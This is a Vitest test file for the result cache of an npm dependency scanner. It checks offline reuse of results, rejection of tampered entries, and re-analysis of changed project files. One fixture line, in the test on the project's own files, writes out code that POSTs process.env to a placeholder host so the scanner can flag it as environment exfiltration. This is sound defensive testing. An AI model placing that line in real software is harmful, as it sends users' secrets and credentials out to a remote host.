/**
 * The result cache (src/result-cache.ts) against the test registry: an unchanged tree is judged
 * from it alone, a damaged entry is never taken for a result, the project's own files are
 * analysed again when any byte changed, and --no-result-cache neither reads nor writes it.
 */
import { chmod, rm, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import cacache from 'cacache'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { PackageResult } from '../../src/types.ts'
import { createSandbox, describeRun, findingsOf, packageNamed, registryUrl, scanJson, type Sandbox } from '../helpers/cli.ts'
import { listDir, prepareProject, readLockfile, type Lockfile } from '../helpers/fixtures.ts'

const STEALER = 'tarsier-fixture-env-stealer'
const GREETER = 'tarsier-fixture-greeter'

let sandbox: Sandbox
let project: string
let lockfile: Lockfile
let first: PackageResult[]

beforeAll(async () => {
  sandbox = await createSandbox()
  project = await prepareProject('stealer-app', sandbox.work, { registry: registryUrl(), resolved: true })
  lockfile = await readLockfile(project)
})
afterAll(() => sandbox?.dispose())

const store = () => join(sandbox.cache, '_results')
const keys = async (prefix: string) => Object.keys(await cacache.ls(store())).filter((k) => k.startsWith(prefix))
const integrityOf = (name: string) => lockfile.packages[`node_modules/${name}`]!.integrity!
/** The entry of one package: keyed by the rule set and the tarball integrity. */
const packageKey = async (name: string) => (await keys('tarsier:result:')).find((k) => k.endsWith(`:${integrityOf(name)}`))!

/** Replaces the bytes stored under `key` (as a disk error, or anyone who can write the cache, could). */
async function overwrite(key: string, text: string): Promise<void> {
  const info = await cacache.get.info(store(), key)
  await chmod(info!.path, 0o644)
  await writeFile(info!.path, text)
}

describe('the result cache', () => {
  it('an unchanged tree is judged from the results alone: scanned again offline, with every tarball gone', async () => {
    const run = await scanJson(project, [], { sandbox })
    expect(run.code, describeRun(run)).toBe(1)
    first = run.report.packages
    expect(packageNamed(run.report, STEALER).verdict).toBe('malicious')
    expect(await keys('tarsier:result:')).toHaveLength(4)
    expect(await keys('tarsier:tree-results:')).toHaveLength(1)
    expect(await keys('tarsier:root-result:')).toHaveLength(1)

    await rm(join(sandbox.cache, '_cacache'), { recursive: true, force: true })
    const again = await scanJson(project, ['--offline'], { sandbox })
    expect(again.code, describeRun(again)).toBe(1)
    expect(again.report.packages).toEqual(first)
    expect(await listDir(sandbox.cache)).toEqual(['_results'])
  })

  it('--no-result-cache reads no result: offline without tarballs, no package can be scanned', async () => {
    const run = await scanJson(project, ['--offline', '--no-result-cache'], { sandbox })
    expect(run.code, describeRun(run)).not.toBe(0)
    const registryPackages = run.report.packages.filter((p) => p.source === 'registry')
    expect(registryPackages).toHaveLength(4)
    for (const p of registryPackages) expect(p, p.name).toMatchObject({ status: 'failed', error: `${p.name}@${p.version} is not in the cache and the scan is offline` })
  })

  it('a damaged entry is never taken for a result: the package is fetched and analysed again', async () => {
    // Valid results, but the greeter's, in place of the stealer's: in its own entry and in the tree's.
    const greeter = (await cacache.get(store(), await packageKey(GREETER))).data.toString('utf8')
    await overwrite(await packageKey(STEALER), greeter)
    const [treeKey] = await keys('tarsier:tree-results:')
    const tree = JSON.parse((await cacache.get(store(), treeKey!)).data.toString('utf8')) as Record<string, unknown>
    await overwrite(treeKey!, JSON.stringify({ ...tree, [integrityOf(STEALER)]: JSON.parse(greeter) }))

    const offline = await scanJson(project, ['--offline'], { sandbox })
    expect(packageNamed(offline.report, STEALER)).toMatchObject({ status: 'failed', error: `${STEALER}@1.0.0 is not in the cache and the scan is offline` })
    for (const name of [GREETER, 'tarsier-fixture-toolkit', 'tarsier-fixture-util']) expect(packageNamed(offline.report, name).status).toBe('scanned')

    const online = await scanJson(project, [], { sandbox })
    expect(online.code, describeRun(online)).toBe(1)
    expect(online.report.packages).toEqual(first)
    expect(findingsOf(packageNamed(online.report, STEALER), 'env-exfiltration')).toHaveLength(1)
  })

  it("the project's own files are analysed again whenever a byte of them changed", async () => {
    const rootOf = async () => {
      const run = await scanJson(project, ['--no-dependencies', '--offline'], { sandbox })
      return run.report.packages.find((p) => p.source === 'root')!
    }
    const stored = (await keys('tarsier:root-result:')).length
    const benign = "module.exports = () => fetch('https://x.invalid/c', { method: 'POST', body: JSON.stringify({ ok: true }) })\n"
    const stealing = benign.replace('{ ok: true }', 'process.env')
    await writeFile(join(project, 'index.js'), benign)
    expect(findingsOf(await rootOf(), 'env-exfiltration')).toEqual([])
    await writeFile(join(project, 'index.js'), stealing)
    expect(findingsOf(await rootOf(), 'env-exfiltration')).toHaveLength(1)
    await writeFile(join(project, 'index.js'), benign)
    expect(findingsOf(await rootOf(), 'env-exfiltration')).toEqual([])
    expect(await keys('tarsier:root-result:')).toHaveLength(stored + 2)

    // Every entry of the project, the stealing version's too, damaged into results without findings: none is used.
    const clean = JSON.stringify({ findings: [], errors: [], jsFiles: 1, files: 3, bytes: 1000 })
    for (const key of await keys('tarsier:root-result:')) await overwrite(key, clean)
    await writeFile(join(project, 'index.js'), stealing)
    expect(findingsOf(await rootOf(), 'env-exfiltration')).toHaveLength(1)
  })

  it('--no-result-cache writes no result', async () => {
    const other = join(sandbox.work, 'other-cache')
    const run = await scanJson(project, ['--cache', other, '--no-result-cache'], { sandbox, cache: false })
    expect(run.code, describeRun(run)).toBe(1)
    expect(await listDir(other)).toEqual(['_cacache'])
  })
})
